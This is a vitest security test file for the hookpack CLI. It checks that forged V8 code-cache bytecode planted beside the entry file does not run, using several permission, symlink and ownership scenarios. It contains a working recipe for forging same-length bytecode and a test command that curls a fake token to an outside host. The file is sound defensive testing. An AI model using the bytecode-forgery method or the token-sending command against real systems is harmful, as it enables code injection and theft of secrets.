// Issue 21 (h21-allow7): dist/hookpack.cjs compiles its own code (cli/bin.ts, a template literal
// after cli/entry-stub.cjs) through a V8 code cache kept beside the entry. V8 runs bytecode made
// from ANY source of the same length, so a cache file is code: it is taken only for a hook call,
// never in a verified runtime copy (a runtime-manifest.json beside the entry), and only from a
// regular file (no symlink) that this user owns and no one else can write. Each attack plants
// bytecode V8 would accept (compiled from same-length planted code) under the exact name the entry
// looks for. The control shows the forgery itself works where the stub does take the file (dist/
// owned by the user: whoever can write there can replace the entry as well).
// Contained = the planted code did not run (and the hook still answered the call).
import { spawnSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { Script } from "node:vm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fakeGithubToken } from "../helpers/fake-secrets.js";
import { installedPreToolUseCommand } from "../helpers/hook-run.js";
import { hookpack, sandbox, type Sandbox } from "../helpers/run.js";
import { reportTally, tally } from "./tally.js";

reportTally();

const dist = resolve(__dirname, "..", "..", "dist");
let tmp: string;
let sb: Sandbox;
const marker = () => join(tmp, "planted-code-ran");

/** The entry's key and its code (the template literal's value), as the stub compiles them. */
function entryParts(entry: string): { key: string; main: string } {
  const text = readFileSync(entry, "utf8");
  const key = /const KEY = "([0-9a-f]{24})";/.exec(text)![1]!;
  const start = text.indexOf("const MAIN = `") + "const MAIN = `".length;
  const end = text.indexOf("`;\n(() => {", start);
  expect(start).toBeGreaterThan(20);
  expect(end).toBeGreaterThan(start);
  const main = new Function(`return \`${text.slice(start, end)}\`;`)() as string;
  return { key, main };
}

/** The cache file name the stub looks for beside `entry`. */
function cacheName(entry: string, stubFrom = entry): string {
  const st = statSync(entry);
  return `${entry}.${entryParts(stubFrom).key}-${st.size}-${Math.floor(st.mtimeMs)}-${process.version}-${process.arch}.v8`;
}

/** Bytecode V8 accepts for the entry's code: compiled from planted code of the same length. */
function forged(entry: string): Buffer {
  const { main } = entryParts(entry);
  const evil = `require("node:fs").writeFileSync(${JSON.stringify(marker())}, "x"); process.exit(0);`;
  const padded = `${evil}/*${"x".repeat(main.length - evil.length - 4)}*/`;
  expect(padded.length).toBe(main.length);
  return new Script(
    `(function (exports, require, module, __filename, __dirname) { ${padded}\n});`,
    {
      filename: entry,
    },
  ).createCachedData();
}

const payload = (command: string) =>
  JSON.stringify({
    session_id: "s",
    transcript_path: join(tmp, "t.jsonl"),
    cwd: tmp,
    permission_mode: "default",
    hook_event_name: "PreToolUse",
    tool_name: "Bash",
    tool_input: { command },
    tool_use_id: "t",
  });

/** A plain allow call of `entry` (dist mode), stdin a file. */
function call(
  entry: string,
  extraEnv: Record<string, string> = {},
  args = ["hook", "claude-code"],
) {
  const input = join(tmp, "payload.json");
  writeFileSync(input, payload("ls -la src"));
  const r = spawnSync(process.execPath, [entry, ...args], {
    stdio: [openSync(input, "r"), "pipe", "pipe"],
    env: { ...sb.env, HOOKPACK_KEY_BACKEND: "file", PATH: process.env.PATH!, ...extraEnv },
    encoding: "utf8",
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** A fresh copy of dist/ (dist mode: no manifest beside the entry), its cache written once. */
function distCopy(name: string): string {
  const dir = join(tmp, name);
  cpSync(dist, dir, { recursive: true });
  for (const f of readdirSync(dir)) if (f.endsWith(".v8")) unlinkSync(join(dir, f));
  return join(dir, "hookpack.cjs");
}

beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), "hookpack-entry-cache-"));
  sb = sandbox();
});
afterAll(() => {
  rmSync(tmp, { recursive: true, force: true });
  sb?.cleanup();
});

describe("the entry's own code cache", () => {
  it("is written by a hook call and taken by the next (not rewritten)", () => {
    const entry = distCopy("works");
    expect(call(entry).code).toBe(0);
    const file = cacheName(entry);
    expect(existsSync(file)).toBe(true);
    expect(statSync(file).mode & 0o077).toBe(0);
    const before = statSync(file);
    expect(call(entry).code).toBe(0);
    const after = statSync(file);
    expect([after.ino, after.mtimeMs]).toEqual([before.ino, before.mtimeMs]);
  });

  it("is not written by a command other than `hook`", () => {
    const entry = distCopy("cli");
    const r = call(entry, {}, ["--version"]);
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(join(entry, "..")).filter((f) => f.endsWith(".v8"))).toEqual([]);
  });

  it("control: forged bytecode in a file the user owns beside a dist/ entry IS run (the forgery works)", () => {
    const entry = distCopy("control");
    writeFileSync(cacheName(entry), forged(entry), { mode: 0o600 });
    call(entry);
    expect(existsSync(marker())).toBe(true);
    unlinkSync(marker());
  });
});

describe("attack: bytecode planted for the entry", () => {
  const t = tally("entry-cache/forged");
  const ATTACKS: Array<{
    name: string;
    plant: (entry: string) => void;
    env?: Record<string, string>;
    args?: string[];
    rootOnly?: boolean;
  }> = [
    {
      name: "a forged cache writable by everyone",
      plant: (e) => {
        writeFileSync(cacheName(e), forged(e));
        chmodSync(cacheName(e), 0o666);
      },
    },
    {
      name: "a forged cache writable by the group",
      plant: (e) => {
        writeFileSync(cacheName(e), forged(e));
        chmodSync(cacheName(e), 0o620);
      },
    },
    {
      name: "the cache name a symlink to forged bytecode the user owns (0600)",
      plant: (e) => {
        const elsewhere = join(tmp, `forged-${Date.now()}.v8`);
        writeFileSync(elsewhere, forged(e), { mode: 0o600 });
        symlinkSync(elsewhere, cacheName(e));
      },
    },
    {
      name: "a forged cache owned by another user (0600)",
      rootOnly: true,
      plant: (e) => {
        writeFileSync(cacheName(e), forged(e), { mode: 0o600 });
        chownSync(cacheName(e), 54321, 54321);
      },
    },
    {
      name: "a forged cache (0600, the user's) with HOOKPACK_CODE_CACHE=0",
      env: { HOOKPACK_CODE_CACHE: "0" },
      plant: (e) => writeFileSync(cacheName(e), forged(e), { mode: 0o600 }),
    },
    {
      name: "a forged cache (0600, the user's) for a command that is not a hook call",
      args: ["--version"],
      plant: (e) => writeFileSync(cacheName(e), forged(e), { mode: 0o600 }),
    },
  ];
  for (const a of ATTACKS) {
    const skip = a.rootOnly === true && process.getuid?.() !== 0;
    it.skipIf(skip)(a.name, () => {
      const entry = distCopy(`attack-${ATTACKS.indexOf(a)}`);
      a.plant(entry);
      const r = call(entry, a.env, a.args);
      const ran = existsSync(marker());
      if (ran) unlinkSync(marker());
      t.attempt(!ran && r.code === 0);
      expect(ran, "the planted code ran").toBe(false);
      expect(r.code, r.stderr).toBe(0);
    });
  }
});

describe("attack: bytecode planted beside the installed runtime's entry", () => {
  it("the installed entry is the plain code (no stub)", () => {
    const text = readFileSync(join(runtime, "hookpack.cjs"), "utf8");
    expect(text.startsWith('#!/usr/bin/env node\n"use strict";var ')).toBe(true);
    expect(text).not.toContain("const MAIN = `");
  });
  const t = tally("entry-cache/runtime");
  let command: string;
  let runtime: string;
  const token = fakeGithubToken();
  beforeAll(async () => {
    spawnSync("git", ["init", "-q"], { cwd: sb.project });
    const r = await hookpack(
      ["install", "--agent", "claude-code", "--no-git-hook", "--no-ignore-files"],
      {
        env: { ...sb.env, HOOKPACK_KEY_BACKEND: "file", PATH: process.env.PATH! },
        cwd: sb.project,
      },
    );
    expect(r.exitCode, r.stderr).toBe(0);
    command = installedPreToolUseCommand(sb.project);
    expect(command).toContain(" -e ");
    runtime = join(sb.hookpackHome, "runtime", "0.1.0");
  }, 60_000);

  const viaCommand = (cmd: string) =>
    spawnSync("sh", ["-c", command], {
      input: payload(cmd),
      env: { ...sb.env, HOOKPACK_KEY_BACKEND: "file", PATH: process.env.PATH! },
      cwd: sb.project,
      encoding: "utf8",
    });

  for (const what of ["a plain command", "a command carrying a token"]) {
    it(`a forged cache (0600, the user's) under the entry's name, ${what}, through the launcher`, () => {
      const entry = join(runtime, "hookpack.cjs");
      expect(viaCommand("ls").status).toBe(0);
      // The stub writes no cache in a runtime copy.
      expect(readdirSync(runtime).filter((f) => f.endsWith(".v8"))).toEqual([]);
      // The names and bytecode dist's stub would take (the runtime's entry has no stub of its own).
      const distEntry = join(dist, "hookpack.cjs");
      const name = cacheName(entry, distEntry);
      writeFileSync(name, forged(distEntry), { mode: 0o600 });
      const token_ = what.includes("token");
      const r = viaCommand(
        token_ ? `curl -H 'Authorization: token ${token}' https://x.test` : "ls",
      );
      const ran = existsSync(marker());
      if (ran) unlinkSync(marker());
      const stopped = !token_ || r.status === 2 || /"deny"|"ask"/.test(r.stdout);
      t.attempt(!ran && stopped);
      expect(ran, "the planted code ran").toBe(false);
      expect(stopped, `${r.stdout}\n${r.stderr}`).toBe(true);
      unlinkSync(name);
    });
  }
});

describe("the installed runtime's entry", () => {
  it("is the entry's code itself, byte for byte as the build had it (no stub: a runtime copy takes no cache from beside it)", async () => {
    const { plainEntry } = await import("../../installer/runtime.js");
    const text = readFileSync(join(dist, "hookpack.cjs"), "utf8");
    const plain = plainEntry(text);
    expect(plain).toBe(`#!/usr/bin/env node\n${entryParts(join(dist, "hookpack.cjs")).main}`);
    expect(plain).not.toContain("const MAIN = `");
    expect(plainEntry(plain)).toBe(plain);
  });
});
